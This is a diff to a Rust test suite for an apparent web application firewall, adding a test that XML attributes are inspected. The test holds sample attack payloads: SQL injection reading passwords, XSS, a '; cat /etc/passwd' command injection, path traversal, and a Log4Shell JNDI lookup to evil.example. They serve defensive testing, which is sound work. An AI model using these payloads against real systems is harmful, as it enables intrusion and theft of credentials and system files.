@@ -642,7 +642,8 @@ async fn pictures_of_any_kind_are_sent_as_they_are() {
 #[tokio::test]
 async fn whatever_rules_are_made_of_is_watched() {
     let backend = Backend::start("a").await;
-    let rules = Rules::new("SecRule ARGS \"@pmFromFile data/words.txt\" \"id:7101,phase:2,deny\"\n");
+    let rules =
+        Rules::new("SecRule ARGS \"@pmFromFile data/words.txt\" \"id:7101,phase:2,deny\"\n");
     let late = tempfile::tempdir().expect("directory");
     std::fs::create_dir(rules.path("data")).expect("directory");
     std::fs::write(rules.path("data/words.txt"), "evil\n").expect("words");
@@ -672,4 +673,35 @@ async fn whatever_rules_are_made_of_is_watched() {
     eventually("the new file of the pattern is read", || refused("late")).await;
     stop.cancel();
     watching.await.expect("task").expect("watched");
+}
+
+#[tokio::test]
+async fn attributes_of_xml_are_inspected() {
+    let backend = Backend::start("a").await;
+    let rig = guarded_by_crs(&backend).await;
+    for attack in [
+        "1' UNION SELECT password FROM users-- -",
+        "&lt;script>alert(1)&lt;/script>",
+        "; cat /etc/passwd",
+        "../../../../etc/passwd",
+        "${jndi:ldap://evil.example/a}",
+    ] {
+        for body in
+            [format!("<a b=\"{attack}\"/>"), format!("<a><c:d xmlns:c='x' b=\"{attack}\"/></a>")]
+        {
+            for kind in ["application/xml", "text/xml; charset=utf-8", "application/soap+xml"] {
+                assert_eq!(post(&rig, "/x", kind, &body).await.status, 403, "{kind} {body}");
+            }
+        }
+    }
+    let ordinary = r#"<?xml version="1.0" encoding="UTF-8"?>
+        <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
+            xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
+            xsi:schemaLocation="http://example.com/order https://example.com/order.xsd">
+          <soap:Body><order id="A-1027" currency="EUR" total="12.50" file="index.php">
+            <line n="1" href="https://shop.example/p/7?a=1&amp;b=2" title="Ann's &quot;tea&quot;"/>
+            <note lang="ru" text="Привет, мир">2 &lt; 3</note>
+          </order></soap:Body>
+        </soap:Envelope>"#;
+    assert_eq!(post(&rig, "/x", "text/xml", ordinary).await.status, 200);
 }
